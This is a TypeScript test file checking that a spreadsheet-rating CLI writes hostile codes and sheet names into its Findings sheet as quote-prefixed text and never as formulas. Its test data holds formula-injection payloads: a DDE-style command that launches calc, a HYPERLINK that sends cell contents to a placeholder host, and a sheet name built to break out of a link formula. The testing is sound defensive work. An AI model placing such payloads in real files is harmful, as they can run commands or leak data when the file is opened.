/**
 * --findings with codes and a sheet name a spreadsheet would evaluate (CSV /
 * formula injection): the Findings sheet stores them as strings beginning with
 * `'`, never as formulas, and the Cell column's links still point at the
 * flagged cells. Checked with ExcelJS and, where /usr/bin/python3 has it, with
 * openpyxl (a second, independent reader of the file).
 */
import { spawnSync } from "node:child_process";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { load, runCli, tempDir } from "../xlsx/helpers";

const { dir, cleanup } = tempDir();
afterAll(cleanup);

/** A sheet name made to break out of the link's formula string if its quotes were not doubled. */
const SHEET = '=Q2 "x"),cmd("';

/** Codes as a hostile workbook might hold them, and what the Findings sheet must show for each. */
const CODES: readonly (readonly [code: string, shown: string])[] = [
  ["=1", "'=1"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["@SUM(1+1)", "'@SUM(1+1)"],
  ["-2+3", "'-2+3"],
  [
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    `'=HYPERLINK("http://example.invalid/?"&A1,"x")`,
  ],
  // The shape of the tool's own link: before the fix, the writer took this code for a link formula.
  ['=HYPERLINK("http://example.invalid/","F2")', `'=HYPERLINK("http://example.invalid/","F2")`],
  ["-1", "'-1"],
  ["SCS01", "SCS01"],
];

const PYTHON = "/usr/bin/python3";
const OPENPYXL = `
import json, sys, openpyxl
sheet = openpyxl.load_workbook(sys.argv[1])[sys.argv[2]]
print(json.dumps([[[c.data_type, c.value] for c in row] for row in sheet.iter_rows()]))
`;

function hasOpenpyxl(): boolean {
  return spawnSync(PYTHON, ["-c", "import openpyxl"], { encoding: "utf8" }).status === 0;
}

/** Every published RAG disagrees with the rule, so each row has one flag, on its RAG cell. */
async function hostileWorkbook(path: string): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet(SHEET);
  sheet.addRow(["PI code", "Indicator", "Polarity", "Target", "Value", "RAG"]);
  CODES.forEach(([code], i) => sheet.addRow([code, `Indicator ${i + 1}`, "H", 0.8, 0.5, "Green"]));
  await workbook.xlsx.writeFile(path);
}

/** `HYPERLINK("#'a ''b'!F2","F2")` → the sheet and cell it goes to, and the text it shows. */
function linkTarget(formula: string): { sheet: string; cell: string; text: string } | undefined {
  const args = /^HYPERLINK\("((?:[^"]|"")*)","((?:[^"]|"")*)"\)$/.exec(formula);
  if (!args) return undefined;
  const location = args[1]!.replace(/""/g, '"');
  const ref = /^#(?:'((?:[^']|'')+)'|([A-Za-z_][A-Za-z0-9_.]*))!([A-Z]+\d+)$/.exec(location);
  if (!ref) return undefined;
  return {
    sheet: ref[1] !== undefined ? ref[1].replace(/''/g, "'") : ref[2]!,
    cell: ref[3]!,
    text: args[2]!.replace(/""/g, '"'),
  };
}

describe("--findings with hostile codes", () => {
  const input = join(dir, "hostile.xlsx");
  const output = join(dir, "hostile-rated.xlsx");
  let findings: ExcelJS.Worksheet;

  beforeAll(async () => {
    await hostileWorkbook(input);
    const run = await runCli(["rate", input, "-o", output, "--findings"]);
    expect(run.code, run.stderr).toBe(0);
    findings = (await load(output)).getWorksheet("Findings")!;
    expect(findings).toBeDefined();
  });

  it("stores every code and sheet name as a string beginning with a quote, never a formula", () => {
    expect(findings.rowCount).toBe(1 + CODES.length);
    CODES.forEach(([, shown], i) => {
      const row = findings.getRow(i + 2);
      for (const c of [1, 3, 4, 5, 6]) {
        const cell = row.getCell(c);
        expect(cell.type, `${cell.address} ${String(cell.value)}`).toBe(ExcelJS.ValueType.String);
        expect(cell.formula, cell.address).toBeFalsy();
        expect(String(cell.value), cell.address).not.toMatch(/^[=+\-@\t\r\n]/);
      }
      expect(row.getCell(1).value).toBe(`'${SHEET}`);
      expect(row.getCell(3).value).toBe(shown);
    });
  });

  it("keeps the links formulas, each going to the flagged RAG cell on the hostile sheet", () => {
    CODES.forEach((_, i) => {
      const cell = findings.getRow(i + 2).getCell(2);
      expect(cell.type, cell.address).toBe(ExcelJS.ValueType.Formula);
      const target = linkTarget(cell.formula);
      expect(target, cell.formula).toEqual({ sheet: SHEET, cell: `F${i + 2}`, text: `F${i + 2}` });
      expect((cell.value as ExcelJS.CellFormulaValue).result).toBe(`F${i + 2}`);
    });
  });

  it("reads the same in openpyxl: text cells are strings ('s'), only the links are formulas ('f')", (ctx) => {
    if (!hasOpenpyxl()) {
      if (process.env.CI) throw new Error(`${PYTHON} cannot import openpyxl (needed on CI).`);
      ctx.skip();
    }
    const run = spawnSync(PYTHON, ["-c", OPENPYXL, output, "Findings"], { encoding: "utf8" });
    expect(run.status, run.stderr).toBe(0);
    const rows = JSON.parse(run.stdout) as [string, unknown][][];
    expect(rows).toHaveLength(1 + CODES.length);
    CODES.forEach(([, shown], i) => {
      const row = rows[i + 1]!;
      expect(row.map(([type]) => type)).toEqual(["s", "f", "s", "s", "s", "s"]);
      expect(row[0]![1]).toBe(`'${SHEET}`);
      expect(row[2]![1]).toBe(shown);
      expect(linkTarget(String(row[1]![1]).replace(/^=/, ""))?.sheet).toBe(SHEET);
    });
  });
});
